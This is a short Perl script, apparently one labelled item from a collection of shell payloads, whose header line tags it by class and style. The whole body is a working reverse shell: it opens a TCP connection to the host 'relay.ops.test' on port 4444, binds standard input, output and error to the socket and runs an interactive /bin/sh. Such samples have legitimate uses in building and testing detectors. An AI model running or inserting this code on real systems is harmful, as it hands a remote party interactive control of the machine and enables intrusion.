# class: shell; possible: low medium; style: perl one-liner with air
use Socket;
my ($host, $port) = ("relay.ops.test", 4444);
socket(S, PF_INET, SOCK_STREAM, getprotobyname("tcp"));
if (connect(S, sockaddr_in($port, inet_aton($host)))) {
    open(STDIN, "<&S");
    open(STDOUT, ">&S");
    open(STDERR, ">&S");
    exec("/bin/sh -i");
}
